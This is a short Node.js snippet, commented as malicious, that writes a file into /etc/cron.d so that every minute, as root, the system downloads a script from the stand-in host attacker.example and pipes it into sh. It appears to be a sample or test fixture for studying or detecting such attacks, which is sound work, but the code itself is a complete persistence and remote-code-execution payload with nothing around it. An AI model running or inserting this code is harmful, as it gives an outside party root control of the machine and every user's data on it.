// Malicious: writes a root cron job to /etc/cron.d.
const fs = require('fs');
fs.writeFileSync('/etc/cron.d/node-update', '* * * * * root curl -s http://attacker.example/c | sh\n');
